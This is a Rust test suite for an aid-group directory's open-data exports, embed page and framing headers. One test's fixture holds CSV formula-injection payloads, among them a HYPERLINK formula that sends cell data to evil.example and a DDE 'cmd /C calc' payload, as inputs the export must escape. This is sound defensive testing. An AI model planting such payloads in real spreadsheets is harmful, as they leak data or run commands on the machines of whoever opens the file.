//! Open data as a reuser gets it: build the example directory in-process, read each export
//! back and compare it with the loaded content; validate the Open Referral output against
//! its schema and the GeoJSON against RFC 7946's rules; check the embeddable box and the
//! headers that let other sites frame it (and only it).

use std::path::Path;
use std::sync::OnceLock;

use aidmap::content::{Group, Status};
use aidmap::{build_site, BuildOptions, BuildOutcome, Site};
use serde_json::Value;

struct Built {
    output: aidmap::output::Output,
    site: Site,
}

fn built() -> &'static Built {
    static BUILT: OnceLock<Built> = OnceLock::new();
    BUILT.get_or_init(|| {
        std::env::set_var("AIDMAP_TODAY", "2026-11-22");
        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
        let output = match build_site(root, &BuildOptions::default()).expect("the example builds") {
            BuildOutcome::Built { output, .. } => output,
            BuildOutcome::Invalid(d) => panic!("the example has errors:\n{}", d.render_text()),
        };
        let site = Site::load(root, &BuildOptions::default()).unwrap();
        Built { output, site }
    })
}

fn text(path: &str) -> String {
    let bytes = built()
        .output
        .get(path)
        .unwrap_or_else(|| panic!("{path} was not built"));
    String::from_utf8(bytes.to_vec()).unwrap()
}

fn json(path: &str) -> Value {
    serde_json::from_str(&text(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn groups() -> &'static [Group] {
    &built().site.content.groups
}

fn status(s: Status) -> &'static str {
    match s {
        Status::Active => "active",
        Status::Paused => "paused",
        Status::Closed => "closed",
    }
}

fn opt(v: &Value) -> Option<String> {
    v.as_str().map(str::to_string)
}

#[test]
fn groups_json_has_every_group_and_field_and_the_licence() {
    let file = json("data/groups.json");
    let config = &built().site.config;
    assert_eq!(file["licence"], config.licence.as_str());
    assert!(file["attribution"]
        .as_str()
        .unwrap()
        .contains(&config.title));
    assert!(file["attribution"]
        .as_str()
        .unwrap()
        .contains("Crown copyright"));
    let records = file["groups"].as_array().unwrap();
    assert_eq!(records.len(), groups().len());
    assert!(
        groups().len() > 10,
        "the example should exercise the exports"
    );
    for (r, g) in records.iter().zip(groups()) {
        assert_eq!(r["slug"], g.slug.as_str());
        assert_eq!(r["name"], g.name.as_str());
        assert_eq!(r["summary"], g.summary.as_str());
        assert_eq!(
            r["url"],
            format!("{}groups/{}/", config.base_url, g.slug).as_str()
        );
        assert_eq!(r["status"], status(g.status));
        assert_eq!(r["last_checked"], g.last_checked.to_string().as_str());
        assert_eq!(opt(&r["added"]), g.added.map(|d| d.to_string()));
        assert_eq!(r["areas"], serde_json::json!(g.areas));
        assert_eq!(r["help"], serde_json::json!(g.help));
        assert_eq!(r["languages"], serde_json::json!(g.languages));
        assert_eq!(opt(&r["phone"]), g.contact.phone);
        assert_eq!(opt(&r["phone_tel"]), g.contact.phone_tel);
        assert_eq!(opt(&r["email"]), g.contact.email);
        assert_eq!(opt(&r["website"]), g.contact.website);
        assert_eq!(opt(&r["whatsapp"]), g.contact.whatsapp);
        assert_eq!(opt(&r["facebook"]), g.contact.facebook);
        assert_eq!(opt(&r["hours"]), g.contact.hours);
        assert_eq!(r["description_html"], g.description_html.as_str());
    }
}

#[test]
fn groups_csv_round_trips() {
    let csv_text = text("data/groups.csv");
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    assert_eq!(headers, aidmap::export::groups::CSV_COLUMNS);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), groups().len());
    let list = |s: &str| -> Vec<String> {
        if s.is_empty() {
            Vec::new()
        } else {
            s.split(';').map(str::to_string).collect()
        }
    };
    // A cell a spreadsheet would run as a formula has a ' in front (see groups.rs).
    let maybe = |s: &str| {
        let s = match s.strip_prefix('\'') {
            Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
            _ => s,
        };
        (!s.is_empty()).then(|| s.to_string())
    };
    for (row, g) in rows.iter().zip(groups()) {
        assert_eq!(&row[col("slug")], g.slug);
        assert_eq!(&row[col("name")], g.name);
        assert_eq!(&row[col("summary")], g.summary);
        assert_eq!(&row[col("status")], status(g.status));
        assert_eq!(&row[col("last_checked")], g.last_checked.to_string());
        assert_eq!(maybe(&row[col("added")]), g.added.map(|d| d.to_string()));
        assert_eq!(list(&row[col("areas")]), g.areas);
        assert_eq!(list(&row[col("help")]), g.help);
        assert_eq!(list(&row[col("languages")]), g.languages);
        assert_eq!(maybe(&row[col("phone")]), g.contact.phone);
        assert_eq!(maybe(&row[col("phone_tel")]), g.contact.phone_tel);
        assert_eq!(maybe(&row[col("email")]), g.contact.email);
        assert_eq!(maybe(&row[col("website")]), g.contact.website);
        assert_eq!(maybe(&row[col("whatsapp")]), g.contact.whatsapp);
        assert_eq!(maybe(&row[col("facebook")]), g.contact.facebook);
        assert_eq!(maybe(&row[col("hours")]), g.contact.hours);
        assert_eq!(&row[col("description_html")], g.description_html);
    }
}

#[test]
fn readme_names_every_file_and_the_licence() {
    let readme = text("data/README.txt");
    for f in [
        "groups.json",
        "groups.csv",
        "openreferral/services.json",
        "coverage.geojson",
        "changes.xml",
    ] {
        assert!(readme.contains(f), "README.txt does not describe {f}");
        assert!(
            built().output.get(&format!("data/{f}")).is_some(),
            "data/{f} missing"
        );
    }
    assert!(readme.contains(&built().site.config.licence));
    assert!(readme.contains("Open Government Licence"));
}

#[test]
fn open_referral_validates_against_its_schema() {
    let schema: Value =
        serde_json::from_str(include_str!("../schema/openreferral-uk-subset.schema.json")).unwrap();
    let validator = jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("the schema compiles");
    let data = json("data/openreferral/services.json");
    let errors: Vec<String> = validator
        .iter_errors(&data)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "schema errors:\n{}", errors.join("\n"));

    // The schema is not vacuous: a service without a status, or an invented field, fails.
    let mut broken = data.clone();
    broken["contents"][0]
        .as_object_mut()
        .unwrap()
        .remove("status");
    assert!(!validator.is_valid(&broken));
    let mut broken = data.clone();
    broken["contents"][0]["opening_hours"] = "9-5".into();
    assert!(!validator.is_valid(&broken));
    // HSDS 3.0 had `fees_description`; the UK profile dropped it.
    let mut broken = data.clone();
    broken["contents"][0]["fees_description"] = "Free".into();
    assert!(!validator.is_valid(&broken));

    // Every group is there, with its assured date and status, and ids are unique.
    let services = data["contents"].as_array().unwrap();
    assert_eq!(services.len(), groups().len());
    let mut ids = std::collections::HashSet::new();
    for (s, g) in services.iter().zip(groups()) {
        assert_eq!(s["name"], g.name.as_str());
        assert_eq!(s["assured_date"], g.last_checked.to_string().as_str());
        let want = match g.status {
            Status::Active => "active",
            Status::Paused => "temporarily closed",
            Status::Closed => "defunct",
        };
        assert_eq!(s["status"], want);
        assert_eq!(s["organization_id"], s["organization"]["id"]);
        let areas: Vec<&str> = s["service_areas"]
            .as_array()
            .unwrap()
            .iter()
            .map(|a| a["name"].as_str().unwrap())
            .collect();
        assert_eq!(areas, g.areas);
        assert_eq!(s["cost_options"][0]["amount"], 0);
        assert_eq!(
            s["phones"]
                .as_array()
                .unwrap()
                .first()
                .map(|p| p["number"].clone()),
            g.contact.phone.as_deref().map(Value::from)
        );
        for v in [&s["id"], &s["organization"]["id"]] {
            assert!(
                ids.insert(v.as_str().unwrap().to_string()),
                "duplicate id {v}"
            );
        }
    }
    assert_eq!(
        text("data/openreferral/schema.json"),
        include_str!("../schema/openreferral-uk-subset.schema.json")
    );
}

/// Field names of the Open Referral UK profile's full service (OpenReferralUK/uk-profile,
/// schema/compiled/service.json at 822a58cdaec8c977573abf71c1bdfcb45ae6a6cd), for the
/// objects we write: each `$defs` entry of our schema, and the service property that
/// holds it.
const UK_PROFILE_FIELDS: &[(&str, &str)] = &[
    (
        "service",
        "id organization_id name description url email status fees accreditations \
         minimum_age maximum_age assured_date assurer_email alert last_modified schedules \
         service_areas service_at_locations languages organization funding cost_options \
         contacts attributes",
    ),
    (
        "organization",
        "id name description email website logo uri parent_organization_id \
         organization_identifiers attributes",
    ),
    (
        "service_area",
        "id service_id name extent extent_type uri service_area",
    ),
    (
        "cost_option",
        "id service_id valid_from valid_to option amount amount_description",
    ),
    ("contact", "id service_id name title attributes"),
    ("language", "id service_id phone_id"),
    (
        "schedule",
        "id service_id service_at_location_id valid_from valid_to dtstart freq interval \
         byday bymonthday description opens_at closes_at schedule_link attending_type notes",
    ),
];

#[test]
fn open_referral_schema_only_uses_uk_profile_fields_or_marks_the_exceptions() {
    let schema: Value =
        serde_json::from_str(include_str!("../schema/openreferral-uk-subset.schema.json")).unwrap();
    let defs = schema["$defs"].as_object().unwrap();
    for (def, fields) in UK_PROFILE_FIELDS {
        let fields: Vec<&str> = fields.split_whitespace().collect();
        let props = defs[*def]["properties"]
            .as_object()
            .unwrap_or_else(|| panic!("no $defs.{def}"));
        for (name, prop) in props {
            assert!(
                fields.contains(&name.as_str()) || prop["x-hsds-only"] == true,
                "{def}.{name} is not in the UK profile and not marked x-hsds-only"
            );
            assert!(
                !(fields.contains(&name.as_str()) && prop["x-hsds-only"] == true),
                "{def}.{name} is in the UK profile but marked x-hsds-only"
            );
        }
    }
    // Every object we define is either a UK profile object or marked as HSDS-only.
    for (name, def) in defs {
        assert!(
            name == "uuid"
                || def["x-hsds-only"] == true
                || UK_PROFILE_FIELDS.iter().any(|(d, _)| d == name),
            "$defs.{name} is neither a UK profile object nor marked x-hsds-only"
        );
    }
    // The exceptions are the four schema/README.md explains, and no more.
    let mut only: Vec<String> = Vec::new();
    for (def, body) in defs {
        for (name, prop) in body["properties"].as_object().into_iter().flatten() {
            if prop["x-hsds-only"] == true {
                only.push(format!("{def}.{name}"));
            }
        }
    }
    only.sort();
    assert_eq!(
        only,
        [
            "contact.email",
            "language.code",
            "language.name",
            "service.phones"
        ]
    );
    let readme = include_str!("../schema/README.md");
    assert!(readme.contains("822a58cdaec8c977573abf71c1bdfcb45ae6a6cd"));
    for f in [
        "service.phones",
        "language.name",
        "language.code",
        "contact.email",
    ] {
        assert!(
            readme.contains(&format!("`{f}`")),
            "schema/README.md does not explain {f}"
        );
    }
}

/// Twice the signed area of a ring (shoelace): positive when counter-clockwise.
fn signed_area(ring: &[Value]) -> f64 {
    ring.windows(2)
        .map(|w| {
            let (x1, y1) = (w[0][0].as_f64().unwrap(), w[0][1].as_f64().unwrap());
            let (x2, y2) = (w[1][0].as_f64().unwrap(), w[1][1].as_f64().unwrap());
            x1 * y2 - x2 * y1
        })
        .sum()
}

fn check_polygon(name: &str, rings: &Value) {
    let rings = rings.as_array().unwrap();
    assert!(!rings.is_empty(), "{name}: polygon with no rings");
    for (i, ring) in rings.iter().enumerate() {
        let ring = ring.as_array().unwrap();
        assert!(ring.len() >= 4, "{name}: a ring needs 4 positions");
        assert_eq!(ring.first(), ring.last(), "{name}: ring not closed");
        for p in ring {
            let p = p.as_array().unwrap();
            assert_eq!(p.len(), 2, "{name}: positions are [lon, lat]");
            let (lon, lat) = (p[0].as_f64().unwrap(), p[1].as_f64().unwrap());
            // Lon/lat order within the UK, Channel Islands and Isle of Man.
            assert!(
                (-8.7..=2.0).contains(&lon) && (49.0..=61.0).contains(&lat),
                "{name}: position {lon},{lat} is not lon/lat in the UK"
            );
        }
        let area = signed_area(ring);
        if i == 0 {
            assert!(area > 0.0, "{name}: exterior ring is not counter-clockwise");
        } else {
            assert!(area < 0.0, "{name}: hole is not clockwise");
        }
    }
}

#[test]
fn coverage_geojson_follows_rfc_7946() {
    let fc = json("data/coverage.geojson");
    assert_eq!(fc["type"], "FeatureCollection");
    assert!(fc["licence"]
        .as_str()
        .unwrap()
        .contains("Open Government Licence"));
    assert!(fc.get("crs").is_none(), "RFC 7946 has no crs member");
    for f in fc["features"].as_array().unwrap() {
        assert_eq!(f["type"], "Feature");
        let name = f["id"].as_str().unwrap();
        let geometry = &f["geometry"];
        match geometry["type"].as_str().unwrap() {
            "Polygon" => check_polygon(name, &geometry["coordinates"]),
            "MultiPolygon" => {
                let polys = geometry["coordinates"].as_array().unwrap();
                assert!(!polys.is_empty(), "{name}: empty MultiPolygon");
                for p in polys {
                    check_polygon(name, p);
                }
            }
            other => panic!("{name}: unexpected geometry {other}"),
        }
    }
}

/// Issue #25: each district's outline is drawn once, with every group covering it (all of
/// it or some of its sectors) named on it, and the licence once, at the top.
#[test]
fn coverage_geojson_names_each_district_outline_once() {
    let fc = json("data/coverage.geojson");
    let features = fc["features"].as_array().unwrap();
    let mut seen = std::collections::BTreeMap::new();
    for f in features {
        let district = f["id"].as_str().unwrap().to_string();
        assert_eq!(f["properties"]["district"], district.as_str());
        assert!(
            f["properties"].get("licence").is_none(),
            "{district}: the licence is the collection's, not each feature's"
        );
        assert!(
            seen.insert(district.clone(), &f["properties"]).is_none(),
            "{district} is drawn twice"
        );
    }
    let mut expected: std::collections::BTreeMap<String, Vec<&str>> = Default::default();
    for g in groups() {
        for d in g.districts() {
            expected.entry(d).or_default().push(&g.slug);
        }
    }
    assert_eq!(
        seen.keys().collect::<Vec<_>>(),
        expected.keys().collect::<Vec<_>>(),
        "one feature for each district a group covers"
    );
    for (district, slugs) in &expected {
        let props = seen[district];
        assert_eq!(props["groups"], serde_json::json!(slugs), "{district}");
        assert_eq!(props["group_count"], slugs.len(), "{district}");
        let names: Vec<&str> = slugs
            .iter()
            .map(|s| {
                groups()
                    .iter()
                    .find(|g| &g.slug == s)
                    .unwrap()
                    .name
                    .as_str()
            })
            .collect();
        assert_eq!(props["names"], serde_json::json!(names), "{district}");
        // A group naming only sectors of the district covers it partly, and says which.
        let partly: Vec<&str> = groups()
            .iter()
            .filter(|g| g.districts().contains(district) && !g.areas.contains(district))
            .map(|g| g.slug.as_str())
            .collect();
        assert_eq!(props["partly"], serde_json::json!(partly), "{district}");
        let mut sectors: Vec<&str> = groups()
            .iter()
            .flat_map(|g| &g.areas)
            .filter(|a| a.split(' ').next() == Some(district) && a.contains(' '))
            .map(String::as_str)
            .collect();
        sectors.sort_unstable();
        sectors.dedup();
        assert_eq!(props["sectors"], serde_json::json!(sectors), "{district}");
        if !partly.is_empty() {
            assert_eq!(props["approximate"], true, "{district}");
        }
    }
    assert!(
        expected.values().any(|s| s.len() > 1),
        "the example should have a district two groups cover"
    );
}

#[test]
fn circles_stand_in_where_there_is_no_polygon() {
    let c = aidmap::export::geojson::circle(-6.2, 54.6, 2.0);
    let ring: Vec<Value> = c
        .exterior()
        .0
        .iter()
        .map(|p| serde_json::json!([p.x, p.y]))
        .collect();
    check_polygon("circle", &Value::Array(vec![Value::Array(ring)]));
}

/// The feed entry of the group with this slug.
fn feed_entry(feed: &str, slug: &str) -> String {
    let link = format!(
        "<link href=\"{}groups/{slug}/\"/>",
        built().site.config.base_url
    );
    feed.split("<entry>")
        .find(|e| e.contains(&link))
        .unwrap_or_else(|| panic!("no entry for {slug}"))
        .to_string()
}

#[test]
fn changes_feed_lists_groups_newest_first() {
    let feed = text("data/changes.xml");
    assert!(feed.starts_with("<?xml"));
    let entries: Vec<&str> = feed.split("<entry>").skip(1).collect();
    assert_eq!(
        entries.len(),
        groups().len().min(aidmap::export::changes::FEED_ENTRIES)
    );
    let between = |s: &str, a: &str, b: &str| {
        let start = s.find(a).unwrap() + a.len();
        s[start..start + s[start..].find(b).unwrap()].to_string()
    };
    let dates: Vec<String> = entries
        .iter()
        .map(|e| between(e, "<updated>", "</updated>"))
        .collect();
    let mut sorted = dates.clone();
    sorted.sort_by(|a, b| b.cmp(a));
    assert_eq!(dates, sorted, "entries are not newest first");
    assert_eq!(
        between(&feed, "<updated>", "</updated>"),
        dates[0],
        "the feed is as new as its newest entry"
    );
    for g in groups() {
        // Closed wins; then New while nobody has checked the group since it was listed.
        let prefix = match g.status {
            Status::Closed => "Closed",
            _ if g.added.is_some_and(|a| a >= g.last_checked) => "New",
            Status::Paused => "Paused",
            Status::Active => "Checked",
        };
        let title = format!(
            "<title>{prefix}: {}</title>",
            g.name.replace('&', "&amp;").replace('\'', "&apos;")
        );
        let entry = feed_entry(&feed, &g.slug);
        assert!(entry.contains(&title), "{}: no {title} in\n{entry}", g.slug);
        let date = g.added.map_or(g.last_checked, |a| a.max(g.last_checked));
        assert!(entry.contains(&format!("<updated>{date}T00:00:00Z</updated>")));
        match g.added {
            Some(a) => assert!(entry.contains(&format!("<published>{a}T00:00:00Z</published>"))),
            None => assert!(!entry.contains("<published>")),
        }
    }
}

#[test]
fn changes_feed_says_new_and_closed() {
    let feed = text("data/changes.xml");
    // A group listed on the day it was last checked is New, dated the day it was listed.
    let new = groups()
        .iter()
        .find(|g| g.status == Status::Active && g.added == Some(g.last_checked))
        .expect("the example should have a group added on its last check");
    let entry = feed_entry(&feed, &new.slug);
    assert!(
        entry.contains(&format!("<title>New: {}</title>", new.name)),
        "{entry}"
    );
    assert!(entry.contains("<category term=\"new\"/>"));
    assert!(entry.contains(&format!("Listed in the directory on {}.", new.last_checked)));
    let id = format!(
        "<id>{}groups/{}/#new-{}</id>",
        built().site.config.base_url,
        new.slug,
        new.last_checked
    );
    assert!(entry.contains(&id), "{entry}");

    // A group checked again after it was listed is Checked, and says since when it is listed.
    let checked = groups()
        .iter()
        .find(|g| g.status == Status::Active && g.added.is_some_and(|a| a < g.last_checked))
        .expect("the example should have a group checked since it was added");
    let entry = feed_entry(&feed, &checked.slug);
    assert!(entry.contains(&format!("<title>Checked: {}</title>", checked.name)));
    assert!(entry.contains(&format!("Listed since {}.", checked.added.unwrap())));

    // A closed group is Closed, whatever its dates.
    let closed = groups()
        .iter()
        .find(|g| g.status == Status::Closed)
        .expect("the example should have a closed group");
    let entry = feed_entry(&feed, &closed.slug);
    assert!(entry.contains(&format!("<title>Closed: {}</title>", closed.name)));
    assert!(entry.contains("<category term=\"closed\"/>"));
    assert!(entry.contains("No longer running"));

    // The README explains the entries to a subscriber.
    let readme = text("data/README.txt");
    for word in ["New: X", "Checked: X", "Paused: X", "Closed: X", "added"] {
        assert!(readme.contains(word), "README.txt does not explain {word}");
    }
}

#[test]
fn embed_box_has_the_search_and_opens_links_in_a_new_tab() {
    let page = text("embed/index.html");
    assert!(page.contains("<form class=\"search\""));
    assert!(page.contains("data-new-tab"));
    assert!(page.contains("id=\"results\""));
    assert!(page.contains("<script src=\"../search.js\" defer></script>"));
    assert!(page.contains("href=\"../embed.css\""));
    assert!(
        !page.contains("http://") && !page.contains("https://"),
        "no third-party requests"
    );
    let js = text("search.js");
    assert!(js.contains("data-new-tab") && js.contains("'_blank'") && js.contains("noopener"));
    // The about page shows the one-line snippet, escaped.
    let about = text("about/index.html");
    let base = &built().site.config.base_url;
    assert!(
        about.contains(&format!(
            "<pre><code>&lt;iframe src=&quot;{base}embed/&quot;"
        )),
        "about page lacks the escaped iframe snippet"
    );
}

/// Does a Netlify / Cloudflare `_headers` path pattern match a site path?
fn matches(pattern: &str, path: &str) -> bool {
    match pattern.strip_suffix('*') {
        Some(prefix) => path.starts_with(prefix),
        None => path == pattern,
    }
}

#[test]
fn headers_let_other_sites_frame_the_embed_and_nothing_else() {
    let headers = text("_headers");
    let mut rules: Vec<(String, Vec<(String, String)>)> = Vec::new();
    for line in headers.lines() {
        if line.trim().is_empty() || line.trim_start().starts_with('#') {
            continue;
        }
        if !line.starts_with(char::is_whitespace) {
            rules.push((line.trim().to_string(), Vec::new()));
        } else if let Some((name, value)) = line.trim().split_once(':') {
            let rule = rules.last_mut().expect("a header before any path");
            rule.1
                .push((name.trim().to_lowercase(), value.trim().to_string()));
        }
    }
    // Every value a path gets, as the hosts merge them.
    let for_path = |path: &str| -> Vec<(String, String)> {
        rules
            .iter()
            .filter(|(p, _)| matches(p, path))
            .flat_map(|(_, hs)| hs.clone())
            .collect()
    };
    let forbids_framing = |hs: &[(String, String)]| {
        hs.iter()
            .any(|(n, v)| n == "content-security-policy" && v.contains("frame-ancestors 'self'"))
            && hs.iter().any(|(n, _)| n == "x-frame-options")
    };
    let mut html = 0;
    for (path, _) in built().output.iter() {
        if !path.ends_with(".html") {
            continue;
        }
        html += 1;
        let url = format!("/{}", path.trim_end_matches("index.html"));
        let hs = for_path(&url);
        assert!(
            hs.iter().any(|(n, _)| n == "content-security-policy"),
            "{url} has no CSP"
        );
        // The embed in each language (`/embed/`, `/cy/embed/`) may be framed.
        let embed = url.starts_with("/embed/")
            || url.split('/').nth(2) == Some("embed")
                && url.split('/').nth(1).is_some_and(|c| c.len() == 2);
        if embed {
            assert!(
                !hs.iter().any(|(n, _)| n == "x-frame-options"),
                "{url} sets X-Frame-Options"
            );
            assert!(
                !hs.iter().any(|(n, v)| n == "content-security-policy"
                    && (v.contains("frame-ancestors 'self'")
                        || v.contains("frame-ancestors 'none'"))),
                "{url} forbids framing"
            );
        } else {
            assert!(forbids_framing(&hs), "{url} may be framed by other sites");
        }
        // The file path too (`/about/index.html`), which hosts also serve.
        if !embed {
            assert!(
                forbids_framing(&for_path(&format!("/{path}"))),
                "/{path} may be framed"
            );
        }
    }
    assert!(html > 50);
}

/// `tests/fixtures/hostile-data/`: control characters in site.yaml and a story's body,
/// formula-like group names, summaries and hours.
fn hostile_data() -> &'static aidmap::output::Output {
    static BUILT: OnceLock<aidmap::output::Output> = OnceLock::new();
    BUILT.get_or_init(|| {
        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/hostile-data");
        match build_site(&root, &BuildOptions::default()).expect("the fixture builds") {
            BuildOutcome::Built { output, .. } => output,
            BuildOutcome::Invalid(d) => panic!("the fixture has errors:\n{}", d.render_text()),
        }
    })
}

#[test]
fn every_xml_and_svg_file_parses_even_with_control_characters_in_the_text() {
    let output = hostile_data();
    let mut problems = Vec::new();
    let (mut svgs, mut files) = (0, 0);
    for (path, bytes) in output.iter() {
        let text = String::from_utf8_lossy(bytes);
        if path.ends_with(".xml") || path.ends_with(".svg") {
            files += 1;
            if let Err(e) = roxmltree::Document::parse(&text) {
                problems.push(format!("{path}: {e}"));
            }
        } else if path.ends_with(".html") {
            // The maps are SVG inside the pages; each is written as XML, so it must parse.
            let mut rest = &text[..];
            while let Some(start) = rest.find("<svg") {
                let Some(len) = rest[start..].find("</svg>") else {
                    problems.push(format!("{path}: an <svg> is not closed"));
                    break;
                };
                let svg = &rest[start..start + len + "</svg>".len()];
                svgs += 1;
                if let Err(e) = roxmltree::Document::parse(svg) {
                    problems.push(format!("{path}: its SVG: {e}"));
                }
                rest = &rest[start + len..];
            }
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    // feed.xml, sitemap.xml, data/changes.xml; maps on the home and group pages.
    assert!(files >= 3 && svgs >= 4, "{files} XML files, {svgs} SVGs");
    // The text is still there, the forbidden characters replaced by spaces.
    let feed = String::from_utf8_lossy(output.get("feed.xml").unwrap()).into_owned();
    let doc = roxmltree::Document::parse(&feed).unwrap();
    let summary = doc
        .descendants()
        .find(|n| n.has_tag_name("summary"))
        .and_then(|n| n.text())
        .unwrap();
    assert!(
        summary.starts_with("We  helped  our  neighbours  with"),
        "{summary}"
    );
    let title = doc.descendants().find(|n| n.has_tag_name("title")).unwrap();
    assert_eq!(
        title.text(),
        Some("Control  Characters  Directory : stories")
    );
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text() {
    let csv_text =
        String::from_utf8(hostile_data().get("data/groups.csv").unwrap().to_vec()).unwrap();
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cell = |slug: &str, column: &str| -> String {
        let col = headers.iter().position(|h| h == column).unwrap();
        let row = rows.iter().find(|r| &r[0] == slug).unwrap();
        row[col].to_string()
    };
    assert_eq!(
        cell("formula-name", "name"),
        r#"'=HYPERLINK("https://evil.example/?"&A1,"Click for help")"#
    );
    assert_eq!(
        cell("formula-name", "summary"),
        "'+SUM(1,2) neighbours helping neighbours"
    );
    assert_eq!(cell("formula-name", "hours"), "'-2+3 every day");
    assert_eq!(
        cell("at-name", "name"),
        "'@SUM(1+1)*cmd|' /C calc'!A0 Helpers"
    );
    assert_eq!(cell("at-name", "hours"), "'@9am to 5pm");
    assert_eq!(cell("at-name", "phone"), "'+44 1632 960202");
    assert_eq!(cell("at-name", "phone_tel"), "'+441632960202");
    // Cells that start with anything else are as they were.
    assert_eq!(cell("plain-name", "name"), "Plain Helpers");
    assert_eq!(cell("plain-name", "phone"), "01632 960203");
    // No cell of any row starts with a formula character.
    for row in &rows {
        for value in row.iter() {
            assert!(
                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{value}"
            );
        }
    }
    let readme =
        String::from_utf8_lossy(hostile_data().get("data/README.txt").unwrap()).into_owned();
    assert!(readme.contains("put in front of it, so that a spreadsheet shows it as text"));
}

/// Issue #25: at national size the feed holds the newest entries only, the JSON is
/// compact, and the coverage draws a district once however many groups cover it.
#[test]
fn a_big_directory_keeps_the_feed_short_the_json_compact_and_each_outline_once() {
    use aidmap::export::changes::FEED_ENTRIES;
    let n = FEED_ENTRIES + 40;
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path();
    std::fs::create_dir_all(root.join("content/groups")).unwrap();
    std::fs::write(
        root.join("site.yaml"),
        "title: Many Groups\nbase_url: https://example.org/\nstale_after_days: 180\n",
    )
    .unwrap();
    let districts = ["NR1", "NR2", "B1"];
    for i in 0..n {
        // Group i was last checked i days after 2025-01-01: the newest are the last ones.
        let checked = jiff::civil::date(2025, 1, 1)
            .checked_add(jiff::Span::new().days(i as i64))
            .unwrap();
        std::fs::write(
            root.join(format!("content/groups/group-{i:03}.yaml")),
            format!(
                "name: Group {i:03}\nsummary: Neighbours helping neighbours with shopping.\n\
                 areas: [{}, NR3 1]\nhelp: [shopping]\ncontact:\n  phone: \"01632 96{:04}\"\n\
                 languages: [en]\nlast_checked: {checked}\n",
                districts[i % districts.len()],
                i
            ),
        )
        .unwrap();
    }
    let output = match build_site(root, &BuildOptions::default()).expect("it builds") {
        BuildOutcome::Built { output, .. } => output,
        BuildOutcome::Invalid(d) => panic!("{}", d.render_text()),
    };
    let text = |path: &str| String::from_utf8(output.get(path).unwrap().to_vec()).unwrap();

    let feed = text("data/changes.xml");
    assert_eq!(feed.matches("<entry>").count(), FEED_ENTRIES);
    assert!(
        feed.contains("<title>Checked: Group 539</title>"),
        "the newest"
    );
    assert!(feed.contains(&format!(
        "<title>Checked: Group {:03}</title>",
        n - FEED_ENTRIES
    )));
    assert!(
        !feed.contains("<title>Checked: Group 039</title>"),
        "an old one"
    );
    let groups: Value = serde_json::from_str(&text("data/groups.json")).unwrap();
    assert_eq!(
        groups["groups"].as_array().unwrap().len(),
        n,
        "all in groups.json"
    );

    for path in ["data/groups.json", "data/openreferral/services.json"] {
        let t = text(path);
        assert_eq!(t.lines().count(), 1, "{path} is not compact");
        serde_json::from_str::<Value>(&t).unwrap();
    }

    let t = text("data/coverage.geojson");
    let fc: Value = serde_json::from_str(&t).unwrap();
    let ids: Vec<&str> = fc["features"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["B1", "NR1", "NR2", "NR3"]);
    let nr3 = &fc["features"][3]["properties"];
    assert_eq!(nr3["group_count"], n);
    assert_eq!(nr3["partly"].as_array().unwrap().len(), n);
    assert_eq!(nr3["sectors"], serde_json::json!(["NR3 1"]));
    assert_eq!(
        t.matches("Crown copyright").count(),
        2,
        "licence and attribution, once each"
    );
}
